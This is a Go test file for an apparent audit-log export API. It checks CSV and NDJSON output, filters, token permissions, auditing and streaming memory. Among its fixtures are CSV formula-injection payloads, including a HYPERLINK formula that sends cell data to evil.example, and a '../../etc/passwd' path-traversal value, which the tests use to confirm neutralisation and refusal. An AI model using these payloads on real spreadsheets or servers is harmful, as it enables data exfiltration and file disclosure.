package api_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"reflect"
	"regexp"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/logbookhq/logbook/internal/access"
	"github.com/logbookhq/logbook/internal/accounts"
	"github.com/logbookhq/logbook/internal/api"
	"github.com/logbookhq/logbook/internal/audit"
	"github.com/logbookhq/logbook/internal/auditlog"
	"github.com/logbookhq/logbook/internal/server/servertest"
	"github.com/logbookhq/logbook/internal/store"
	"github.com/logbookhq/logbook/internal/store/sqlite"
)

const exportPath = "/api/v1/audit-logs/export"

// exportHeader is the header row of a CSV export without a time zone.
var exportHeader = []string{"Audit Log ID", "Timestamp (UTC)", "User Name", "User IP", "Domain", "Application",
	"Workspace", "Task", "Result", "Job ID", "Description", "Affected Objects", "Affected Object Detail", "Source", "Hash"}

// exportTime is when the first test entry happened: winter in Berlin
// (UTC+1), so that the summer entry a day later in exportEntries' list
// tests the other offset.
var exportTime = time.Date(2026, 11, 25, 22, 15, 0, 123456000, time.UTC)

// exportEntries are stored for the format tests: text that needs quoting,
// hostile spreadsheet cells and a summer timestamp.
func exportEntries() []audit.Entry {
	return []audit.Entry{
		{Timestamp: exportTime, UserName: "alice", UserIP: "10.0.0.1", Domain: "Global", Application: "Network Management Platform",
			Workspace: "Devices", Task: "Apply CLI Configlet", Result: audit.ResultJobScheduled, JobID: 42,
			Description: "set \"interfaces\", then commit,\nand then\nreport", Source: "test",
			AffectedObjects:      []audit.Object{{Type: "Device", Name: "mx960-1"}, {Type: "Configlet", ID: "7", Name: "ntp, dns"}},
			AffectedObjectDetail: `{"before":"a","after":"b"}`},
		{Timestamp: time.Date(2026, 7, 1, 12, 0, 0, 1000, time.UTC), UserName: "+cmd", UserIP: "10.0.0.2", Domain: "Global/EMEA",
			Application: "REST", Workspace: "Jobs", Task: "Login", Result: audit.ResultSuccess,
			Description: `=HYPERLINK("http://evil.example/?x="&A1,"click")`, Source: "test"},
		{Timestamp: exportTime.Add(time.Minute), UserName: "-1", UserIP: "2001:db8::1", Domain: "Global/EMEA/Lab",
			Application: "REST", Workspace: "Jobs", Task: "Logout", Result: audit.ResultFailure, Description: "@SUM(1+1)", Source: "test"},
		{Timestamp: exportTime.Add(2 * time.Minute), UserName: "@x", UserIP: "10.0.0.4", Domain: "Global/APAC",
			Application: "REST", Workspace: "Jobs", Task: "Login", Result: audit.ResultSuccess, Description: "\tindented", Source: "test"},
	}
}

// storeEntries appends entries and returns them as stored (with ids and hashes).
func storeEntries(t testing.TB, st store.Store, entries []audit.Entry) []audit.Entry {
	t.Helper()
	ctx := context.Background()
	ids, err := st.Append(ctx, entries)
	if err != nil {
		t.Fatal(err)
	}
	out := make([]audit.Entry, len(ids))
	for i, id := range ids {
		if out[i], err = st.Get(ctx, store.AllDomains, id); err != nil {
			t.Fatal(err)
		}
	}
	return out
}

// exportGet sends a GET with an optional Authorization header and returns
// the whole answer.
func exportGet(t *testing.T, url, authz string) (*http.Response, []byte) {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, url, nil)
	if err != nil {
		t.Fatal(err)
	}
	if authz != "" {
		req.Header.Set("Authorization", authz)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("reading %s: %v", url, err)
	}
	return resp, b
}

// exportCSV exports with query and returns the parsed rows, header first.
func exportCSV(t *testing.T, base, query, authz string) [][]string {
	t.Helper()
	resp, body := exportGet(t, base+exportPath+"?"+query, authz)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("export %s: %d %s", query, resp.StatusCode, body)
	}
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\uFEFF"))))
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("export %s is not CSV: %v\n%s", query, err, body)
	}
	return rows
}

// column returns the values of the named column, header excluded.
func column(t *testing.T, rows [][]string, name string) []string {
	t.Helper()
	i := slices.Index(rows[0], name)
	if i < 0 {
		t.Fatalf("no column %q in %q", name, rows[0])
	}
	var out []string
	for _, r := range rows[1:] {
		out = append(out, r[i])
	}
	return out
}

func TestExportCSV(t *testing.T) {
	f := servertest.New(t, servertest.Options{AsAdmin: true})
	stored := storeEntries(t, f.Store, exportEntries())

	resp, body := exportGet(t, f.URL+exportPath+"?format=csv", "")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %d: %s", resp.StatusCode, body)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type = %q", ct)
	}
	if cd := resp.Header.Get("Content-Disposition"); !regexp.MustCompile(`^attachment; filename="logbook-audit-logs-\d{8}T\d{6}Z\.csv"$`).MatchString(cd) {
		t.Errorf("Content-Disposition = %q", cd)
	}
	if bytes.HasPrefix(body, []byte("\uFEFF")) {
		t.Error("the export starts with a BOM that was not asked for")
	}
	if !bytes.Contains(body, []byte("\r\n")) {
		t.Error("rows do not end in CRLF (RFC 4180)")
	}
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, body)
	}
	if len(rows) != len(stored)+1 {
		t.Fatalf("%d rows, want %d entries and a header:\n%s", len(rows), len(stored), body)
	}
	if !slices.Equal(rows[0], exportHeader) {
		t.Errorf("header = %q\nwant     %q", rows[0], exportHeader)
	}
	want := [][]string{
		{"1", "2026-11-25T22:15:00.123456Z", "alice", "10.0.0.1", "Global", "Network Management Platform", "Devices",
			"Apply CLI Configlet", "Job Scheduled", "42", "set \"interfaces\", then commit,\nand then\nreport",
			"Device:mx960-1; Configlet:ntp, dns", `{"before":"a","after":"b"}`, "test", stored[0].Hash},
		{"2", "2026-07-01T12:00:00.000001Z", "'+cmd", "10.0.0.2", "Global/EMEA", "REST", "Jobs", "Login", "Success", "",
			`'=HYPERLINK("http://evil.example/?x="&A1,"click")`, "", "", "test", stored[1].Hash},
		{"3", "2026-11-25T22:16:00.123456Z", "'-1", "2001:db8::1", "Global/EMEA/Lab", "REST", "Jobs", "Logout", "Failure", "",
			"'@SUM(1+1)", "", "", "test", stored[2].Hash},
		{"4", "2026-11-25T22:17:00.123456Z", "'@x", "10.0.0.4", "Global/APAC", "REST", "Jobs", "Login", "Success", "",
			"'\tindented", "", "", "test", stored[3].Hash},
	}
	for i, w := range want {
		if !slices.Equal(rows[i+1], w) {
			t.Errorf("row %d =\n%q\nwant\n%q", i+1, rows[i+1], w)
		}
	}
}

func TestExportCSVOptions(t *testing.T) {
	f := servertest.New(t, servertest.Options{AsAdmin: true})
	storeEntries(t, f.Store, exportEntries())

	t.Run("bom", func(t *testing.T) {
		_, body := exportGet(t, f.URL+exportPath+"?format=csv&bom=true", "")
		if !bytes.HasPrefix(body, []byte("\xEF\xBB\xBFAudit Log ID,")) {
			t.Errorf("bom=true: the export starts with %q, want a UTF-8 BOM and the header", body[:min(len(body), 20)])
		}
		_, body = exportGet(t, f.URL+exportPath+"?format=csv&bom=false", "")
		if !bytes.HasPrefix(body, []byte("Audit Log ID,")) {
			t.Errorf("bom=false: the export starts with %q", body[:min(len(body), 20)])
		}
	})
	t.Run("time zone", func(t *testing.T) {
		rows := exportCSV(t, f.URL, "tz=Europe/Berlin&user_name=alice&user_name=%2Bcmd", "")
		wantHeader := slices.Insert(slices.Clone(exportHeader), 2, "Timestamp (Europe/Berlin)")
		if !slices.Equal(rows[0], wantHeader) {
			t.Fatalf("header = %q\nwant     %q", rows[0], wantHeader)
		}
		got := column(t, rows, "Timestamp (Europe/Berlin)")
		want := []string{"2026-11-25T23:15:00.123456+01:00", "2026-07-01T14:00:00.000001+02:00"}
		if !slices.Equal(got, want) {
			t.Errorf("Berlin times = %q, want %q", got, want)
		}
		if utc := column(t, rows, "Timestamp (UTC)"); utc[0] != "2026-11-25T22:15:00.123456Z" {
			t.Errorf("UTC column = %q", utc)
		}
	})
}

func TestExportNDJSONMatchesAPI(t *testing.T) {
	f := servertest.New(t, servertest.Options{AsAdmin: true})
	stored := storeEntries(t, f.Store, exportEntries())

	resp, body := exportGet(t, f.URL+exportPath+"?format=ndjson", "")
	if resp.StatusCode != http.StatusOK || resp.Header.Get("Content-Type") != "application/x-ndjson" {
		t.Fatalf("status %d, Content-Type %q: %s", resp.StatusCode, resp.Header.Get("Content-Type"), body)
	}
	if cd := resp.Header.Get("Content-Disposition"); !strings.HasSuffix(cd, `.ndjson"`) {
		t.Errorf("Content-Disposition = %q", cd)
	}
	lines := strings.Split(strings.TrimSuffix(string(body), "\n"), "\n")
	if len(lines) != len(stored) {
		t.Fatalf("%d lines, want %d:\n%s", len(lines), len(stored), body)
	}
	for i, line := range lines {
		var got, want map[string]any
		if err := json.Unmarshal([]byte(line), &got); err != nil {
			t.Fatalf("line %d is not JSON: %v\n%s", i+1, err, line)
		}
		_, one := exportGet(t, fmt.Sprintf("%s/api/v1/audit-logs/%d", f.URL, stored[i].ID), "")
		if err := json.Unmarshal(one, &want); err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("line %d =\n%s\nthe API's GET answers\n%s", i+1, line, one)
		}
	}
}

func TestExportFiltersSortAndScope(t *testing.T) {
	f := servertest.New(t, servertest.Options{AsAdmin: true})
	ctx := context.Background()
	storeEntries(t, f.Store, exportEntries())
	if _, err := f.Server.Auth.CreateDomain(ctx, accounts.Actor{Name: "t"}, accounts.DomainView{Name: "Global/EMEA"}); err != nil {
		t.Fatal(err)
	}
	newToken := func(name string, scopes ...string) string {
		tv, err := f.Server.Auth.CreateToken(ctx, accounts.Actor{Name: "t"}, access.Subject{},
			accounts.NewToken{Name: name, Scopes: scopes, Domains: []string{"Global/EMEA"}})
		if err != nil {
			t.Fatal(err)
		}
		return "Bearer " + tv.Secret
	}
	read, ingest := newToken("r", "read"), newToken("i", "ingest")

	for _, tc := range []struct {
		name, query, authz string
		users              []string
	}{
		{name: "user filter", query: "user_name=alice&user_name=-1", users: []string{"alice", "'-1"}},
		{name: "prefix and result", query: "domain=Global/EMEA*&result=Failure", users: []string{"'-1"}},
		{name: "time range", query: "from=2026-11-25T00:00:00Z&to=2026-11-25T22:16:30Z&application=REST", users: []string{"'-1"}},
		{name: "sort descending", query: "application=REST&sort=-id", users: []string{"'@x", "'-1", "'+cmd"}},
		{name: "sort by time", query: "application=REST&sort=timestamp", users: []string{"'+cmd", "'-1", "'@x"}},
		{name: "read token sees its domain", query: "", authz: read, users: []string{"'+cmd", "'-1"}},
		{name: "read token with a filter", query: "task=Logout", authz: read, users: []string{"'-1"}},
		{name: "read token asks for another domain", query: "domain=Global/APAC", authz: read},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rows := exportCSV(t, f.URL, tc.query, tc.authz)
			if got := column(t, rows, "User Name"); !slices.Equal(got, tc.users) {
				t.Errorf("users = %q, want %q", got, tc.users)
			}
		})
	}

	t.Run("ingest token is refused", func(t *testing.T) {
		resp, body := exportGet(t, f.URL+exportPath, ingest)
		if resp.StatusCode != http.StatusForbidden || !strings.Contains(string(body), "forbidden") {
			t.Errorf("status %d: %s", resp.StatusCode, body)
		}
	})
	t.Run("bad token is refused", func(t *testing.T) {
		if resp, body := exportGet(t, f.URL+exportPath, "Bearer nope"); resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("status %d: %s", resp.StatusCode, body)
		}
	})
}

// exportAudits returns the audit log entries that record exports.
func exportAudits(t *testing.T, st store.Store) []audit.Entry {
	t.Helper()
	page, err := st.List(context.Background(), store.AllDomains, store.Query{Limit: 100,
		Filter: store.Filter{Task: []store.Match{{Value: "Export Audit Logs"}}}, Sort: store.Sort{Field: store.SortID}})
	if err != nil {
		t.Fatal(err)
	}
	return page.Entries
}

func TestExportIsAudited(t *testing.T) {
	f := servertest.New(t, servertest.Options{AsAdmin: true})
	storeEntries(t, f.Store, exportEntries())

	exportCSV(t, f.URL, "format=csv&application=REST&sort=-id", "")
	exportGet(t, f.URL+exportPath+"?format=ndjson", "")
	got := exportAudits(t, f.Store)
	if len(got) != 2 {
		t.Fatalf("%d export entries, want 2: %+v", len(got), got)
	}
	e := got[0]
	want := audit.Entry{UserName: "test-admin", UserIP: "127.0.0.1", Domain: "Global", Application: "Logbook",
		Workspace: "Audit Logs", Task: "Export Audit Logs", Result: audit.ResultSuccess}
	if e.UserName != want.UserName || e.UserIP != want.UserIP || e.Domain != want.Domain || e.Application != want.Application ||
		e.Workspace != want.Workspace || e.Task != want.Task || e.Result != want.Result {
		t.Errorf("export entry = %+v\nwant fields of %+v", e, want)
	}
	for _, s := range []string{"exported 3 audit log entries", "CSV", "format=csv&application=REST&sort=-id"} {
		if !strings.Contains(e.Description, s) {
			t.Errorf("description %q lacks %q", e.Description, s)
		}
	}
	var detail struct {
		Format  string `json:"format"`
		Query   string `json:"query"`
		Entries int    `json:"entries"`
	}
	if err := json.Unmarshal([]byte(e.AffectedObjectDetail), &detail); err != nil || detail.Entries != 3 || detail.Format != "csv" {
		t.Errorf("detail = %s (%v)", e.AffectedObjectDetail, err)
	}
	// The second export began after the first was recorded and holds it.
	if d := got[1].Description; !strings.Contains(d, "exported 5 audit log entries as NDJSON") {
		t.Errorf("second export's description = %q", d)
	}
}

func TestExportRefusesBadParameters(t *testing.T) {
	f := servertest.New(t, servertest.Options{AsAdmin: true})
	storeEntries(t, f.Store, exportEntries())
	for _, tc := range []struct{ query, field string }{
		{"format=xml", "format"},
		{"format=", "format"},
		{"bom=maybe", "bom"},
		{"bom=", "bom"},
		{"format=ndjson&bom=true", "bom"},
		{"tz=Mars/Olympus", "tz"},
		{"tz=", "tz"},
		{"tz=Local", "tz"},
		{"tz=../../etc/passwd", "tz"},
		{"format=ndjson&tz=Europe/Berlin", "tz"},
		{"result=Maybe", "result"},
		{"sort=nope", "sort"},
		{"from=yesterday", "from"},
		{"job_id=x", "job_id"},
		{"object=nocolon", "object"},
		{"limit=10", "limit"},
		{"cursor=abc", "cursor"},
		{"usr_name=alice", "usr_name"},
	} {
		t.Run(tc.query, func(t *testing.T) {
			resp, body := exportGet(t, f.URL+exportPath+"?"+tc.query, "")
			if resp.StatusCode != http.StatusBadRequest || !strings.HasPrefix(resp.Header.Get("Content-Type"), "application/json") {
				t.Fatalf("status %d, Content-Type %q: %s", resp.StatusCode, resp.Header.Get("Content-Type"), body)
			}
			var e struct {
				Fields []struct{ Field string } `json:"fields"`
			}
			if err := json.Unmarshal(body, &e); err != nil || len(e.Fields) != 1 || e.Fields[0].Field != tc.field {
				t.Errorf("answer %s does not name %s", body, tc.field)
			}
			if bytes.Contains(body, []byte("Audit Log ID")) {
				t.Errorf("a refused export wrote data: %s", body)
			}
		})
	}
	if n := len(exportAudits(t, f.Store)); n != 0 {
		t.Errorf("%d refused exports were recorded as exports", n)
	}
}

// recorder is a Submitter that keeps what it is given.
type recorder struct {
	mu      sync.Mutex
	entries []audit.Entry
	done    chan struct{}
}

func (r *recorder) Submit(_ context.Context, es []audit.Entry) ([]int64, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.entries = append(r.entries, es...)
	close(r.done)
	return make([]int64, len(es)), nil
}

// brokenStore serves the first page of a listing and then fails (or, with
// block, waits for the caller to give up).
type brokenStore struct {
	store.Store
	block   bool
	mu      sync.Mutex
	calls   int
	reached chan struct{}
}

func (s *brokenStore) List(ctx context.Context, scope store.Scope, q store.Query) (store.Page, error) {
	s.mu.Lock()
	s.calls++
	n := s.calls
	s.mu.Unlock()
	if n == 1 {
		return s.Store.List(ctx, scope, q)
	}
	close(s.reached)
	if s.block {
		<-ctx.Done()
		return store.Page{}, ctx.Err()
	}
	return store.Page{}, errors.New("disk on fire")
}

// brokenExport serves the API over st with every request made by an admin
// token, and returns its URL and the submitter that records exports.
func brokenExport(t *testing.T, block bool) (string, *brokenStore, *recorder) {
	t.Helper()
	ctx := context.Background()
	st, err := sqlite.Open(ctx, t.TempDir(), sqlite.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	entries := make([]audit.Entry, 2*auditlog.ExportPageSize)
	for i := range entries {
		entries[i] = audit.Entry{Timestamp: exportTime, UserName: "u", Domain: "Global", Application: "A", Task: "T",
			Result: audit.ResultSuccess, Source: "test", Description: strings.Repeat("x", 500)}
	}
	if _, err := st.Append(ctx, entries); err != nil {
		t.Fatal(err)
	}
	bs := &brokenStore{Store: st, block: block, reached: make(chan struct{})}
	rec := &recorder{done: make(chan struct{})}
	h := api.New(auditlog.New(bs, rec, nil), rec, nil, nil, slog.New(slog.NewTextHandler(io.Discard, nil)), nil)
	mux := http.NewServeMux()
	h.Register(mux)
	caller := accounts.Request{Subject: access.Subject{Kind: access.KindToken, Name: "exporter", Scopes: []access.TokenScope{access.ScopeRead}},
		Scope: store.AllDomains, IP: "192.0.2.7"}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mux.ServeHTTP(w, r.WithContext(accounts.WithRequest(r.Context(), caller)))
	}))
	t.Cleanup(srv.Close)
	return srv.URL, bs, rec
}

// recorded waits for the export's audit entry.
func (r *recorder) recorded(t *testing.T) audit.Entry {
	t.Helper()
	select {
	case <-r.done:
	case <-time.After(10 * time.Second):
		t.Fatal("the export was not recorded")
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.entries[0]
}

func TestExportBreaksOffOnStoreFailure(t *testing.T) {
	url, _, rec := brokenExport(t, false)
	resp, err := http.Get(url + exportPath)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if !errors.Is(err, io.ErrUnexpectedEOF) {
		t.Errorf("reading a broken export: %v after %d bytes, want an unexpected EOF", err, len(body))
	}
	e := rec.recorded(t)
	if e.Result != audit.ResultFailure || e.UserName != "exporter" || e.UserIP != "192.0.2.7" ||
		!strings.Contains(e.Description, fmt.Sprintf("failed after %d entries: an internal error", auditlog.ExportPageSize)) {
		t.Errorf("recorded %+v", e)
	}
}

func TestExportStopsWhenClientGoes(t *testing.T) {
	url, bs, rec := brokenExport(t, true)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, http.MethodGet, url+exportPath+"?format=ndjson", nil)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	sc := bufio.NewScanner(resp.Body)
	sc.Buffer(nil, 1<<20)
	for i := 0; i < auditlog.ExportPageSize && sc.Scan(); i++ {
	}
	<-bs.reached
	cancel()
	e := rec.recorded(t)
	if e.Result != audit.ResultFailure || !strings.Contains(e.Description, "the client went away") ||
		!strings.Contains(e.Description, "NDJSON") {
		t.Errorf("recorded %+v", e)
	}
}

// heapSampler reads an export and tracks how far the heap in use grew
// above what it was before the export began. Server and test share the
// process, so the growth bounds what the handler holds.
type heapSampler struct {
	base, peak uint64
	ms         runtime.MemStats
}

func newHeapSampler() *heapSampler {
	runtime.GC()
	s := &heapSampler{}
	runtime.ReadMemStats(&s.ms)
	s.base, s.peak = s.ms.HeapInuse, s.ms.HeapInuse
	return s
}

func (s *heapSampler) sample() {
	runtime.ReadMemStats(&s.ms)
	s.peak = max(s.peak, s.ms.HeapInuse)
}

func (s *heapSampler) growth() uint64 { return s.peak - s.base }

// streamExport reads an export as a slow spreadsheet would not: fast, in
// small reads, sampling the heap every sampleEvery bytes; it returns the
// number of lines and bytes.
func streamExport(t testing.TB, url string, s *heapSampler) (lines, size int) {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %d", resp.StatusCode)
	}
	const sampleEvery = 256 << 10
	buf := make([]byte, 32<<10)
	next := sampleEvery
	for {
		n, err := resp.Body.Read(buf)
		size += n
		lines += bytes.Count(buf[:n], []byte("\n"))
		if size >= next {
			s.sample()
			next += sampleEvery
		}
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	s.sample()
	return lines, size
}

// seedBulk stores n entries with descriptions of descLen bytes, in batches.
func seedBulk(t testing.TB, st store.Store, n, descLen int) {
	t.Helper()
	desc := strings.Repeat("Deployed the configuration to the device and waited for the commit. ", descLen/68+1)[:descLen]
	batch := make([]audit.Entry, 0, 1000)
	for i := range n {
		batch = append(batch, audit.Entry{Timestamp: exportTime.Add(time.Duration(i) * time.Millisecond),
			UserName: "user" + strconv.Itoa(i%50), UserIP: "10.0.0.1", Domain: "Global/EMEA", Application: "Network Management Platform",
			Workspace: "Devices", Task: "Deploy Device Configuration", Result: audit.ResultSuccess, Source: "test",
			Description: desc, AffectedObjects: []audit.Object{{Type: "Device", Name: "mx960-" + strconv.Itoa(i%100)}}})
		if len(batch) == cap(batch) || i == n-1 {
			if _, err := st.Append(context.Background(), batch); err != nil {
				t.Fatal(err)
			}
			batch = batch[:0]
		}
	}
}

func TestExportMemoryIsConstant(t *testing.T) {
	if testing.Short() {
		t.Skip("stores 50,000 entries")
	}
	const n = 50_000
	f := servertest.New(t, servertest.Options{AsAdmin: true})
	seedBulk(t, f.Store, n, 1400)
	s := newHeapSampler()
	lines, size := streamExport(t, f.URL+exportPath+"?format=csv", s)
	if lines < n+1 {
		t.Fatalf("%d lines, want at least %d", lines, n+1)
	}
	// Holding the export would take more than its size (the entries and
	// their CSV); one page is about a megabyte. 30 MB leaves room for the
	// garbage collector's pacing, not for the result.
	const limit = 30 << 20
	t.Logf("exported %d entries, %.1f MB; heap in use grew by %.1f MB", n, float64(size)/(1<<20), float64(s.growth())/(1<<20))
	if size < 2*limit {
		t.Fatalf("the export is %d bytes, too small to tell streaming from buffering", size)
	}
	if s.growth() > limit {
		t.Errorf("heap in use grew by %d MB while exporting %d MB, want under %d MB", s.growth()>>20, size>>20, limit>>20)
	}
}

// TestExportMillionPeakHeap measures the heap of exporting a million
// entries; it takes minutes, so it runs only when asked:
//
//	LOGBOOK_EXPORT_MILLION=1 go test ./internal/api/ -run TestExportMillionPeakHeap -v -timeout 30m
func TestExportMillionPeakHeap(t *testing.T) {
	if os.Getenv("LOGBOOK_EXPORT_MILLION") != "1" {
		t.Skip("set LOGBOOK_EXPORT_MILLION=1 to export a million entries")
	}
	const n = 1_000_000
	f := servertest.New(t, servertest.Options{AsAdmin: true})
	start := time.Now()
	seedBulk(t, f.Store, n, 200)
	t.Logf("stored %d entries in %v", n, time.Since(start).Round(time.Second))
	for _, format := range []string{"csv", "ndjson"} {
		s := newHeapSampler()
		start = time.Now()
		lines, size := streamExport(t, f.URL+exportPath+"?"+url.Values{"format": {format}}.Encode(), s)
		took := time.Since(start)
		t.Logf("%s: %d lines, %.0f MB in %v (%.0f entries/s); heap in use before %.1f MB, peak %.1f MB, growth %.1f MB",
			format, lines, float64(size)/(1<<20), took.Round(time.Millisecond), float64(n)/took.Seconds(),
			float64(s.base)/(1<<20), float64(s.peak)/(1<<20), float64(s.growth())/(1<<20))
	}
}
